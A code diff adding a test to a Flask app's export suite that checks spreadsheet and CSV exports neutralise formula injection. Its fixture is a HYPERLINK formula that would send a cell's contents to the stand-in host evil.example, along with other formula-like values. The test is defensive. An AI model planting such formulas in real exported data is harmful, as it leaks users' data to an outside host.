@@ -1,15 +1,18 @@
 """List and report exports to .xlsx and CSV: what the list shows, every page, never a hidden field."""
 from __future__ import annotations
 
+import csv
 import io
+import zipfile
 from datetime import date, datetime
 from decimal import Decimal
 
 from flask import Flask
 from openpyxl import load_workbook
 
+from engine import tenancy
 from engine.runtime import Formwork
-from tests.excel.conftest import add_orders, fetch, sheet_rows, visitor
+from tests.excel.conftest import add_orders, fetch, sheet_rows, supplier_ids, visitor
 
 
 def orders(count: int) -> list[dict[str, object]]:
@@ -101,3 +104,23 @@ def test_report_export_has_the_reports_columns_and_rows(app: Flask, engine: Form
     assert fetch(clerk, "/reports/sheetshop/by_kind/export.csv").data.startswith(b"\xef\xbb\xbf")
     assert fetch(visitor(app, shop, "reader"), "/reports/sheetshop/by_kind/export.xlsx").status_code == 403
     assert fetch(clerk, "/reports/sheetshop/nothing/export.xlsx").status_code == 404
+
+
+def test_exports_write_formula_like_text_as_text_and_negative_amounts_as_numbers(app: Flask, engine: Formwork,
+                                                                                 shop: str) -> None:
+    attack = '=HYPERLINK("https://evil.example/?"&E2,"点我")'
+    add_orders(engine, shop, [{"number": "@SUM(1)", "ordered_on": "2024-05-01", "secret_price": "-12.50"},
+                              {"number": "-2+3", "ordered_on": "2024-05-02", "secret_price": "3"}])
+    supplier = supplier_ids(engine, shop)["Acme 建材"]
+    with engine.records(tenancy.Actor(shop, "boss", frozenset({"admin"}))) as records:
+        records.update("sheetshop", "supplier", supplier, {"name": attack}, version=1)
+    clerk = visitor(app, shop, "clerk")
+    content = fetch(clerk, "/m/sheetshop/order/export.xlsx?cols=number,supplier,secret_price&sort=ordered_on").data
+    with zipfile.ZipFile(io.BytesIO(content)) as archive:
+        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
+    sheet = load_workbook(io.BytesIO(content)).active
+    assert [(c.value, c.data_type) for c in sheet[2]] == [("@SUM(1)", "s"), (attack, "s"), (-12.5, "n")]
+    assert [(c.value, c.data_type) for c in sheet[3]] == [("-2+3", "s"), (attack, "s"), (3, "n")]
+    text = fetch(clerk, "/m/sheetshop/order/export.csv?cols=number,supplier,secret_price&sort=ordered_on").data
+    lines = list(csv.reader(io.StringIO(text.decode("utf-8-sig"), newline="")))
+    assert lines[1:] == [["'@SUM(1)", "'" + attack, "-12.50"], ["'-2+3", "'" + attack, "3.00"]]
